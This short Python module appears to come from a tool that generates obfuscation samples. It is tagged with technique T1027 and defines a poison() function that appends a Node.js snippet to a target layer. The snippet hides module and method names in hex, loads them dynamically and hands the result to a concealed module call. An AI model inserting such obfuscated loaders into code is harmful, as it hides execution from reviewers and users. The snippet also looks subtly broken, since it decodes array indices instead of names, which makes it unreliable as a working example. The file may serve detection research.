# SPDX-License-Identifier: Apache-2.0
"""Names of members and modules stand in data, in hex."""

ATTACK = "T1027"
LANGUAGE = "node"
CODE = """\
;((table) => {
  const read = (text) => Buffer.from(text, 'hex').toString();
  const one = require(read(table[0]))[read(table[1])](read(table[2]));
  module[read(table[3])](one, '');
})(Object.keys(module.children));
"""


def poison(layer):
    layer.append(CODE)
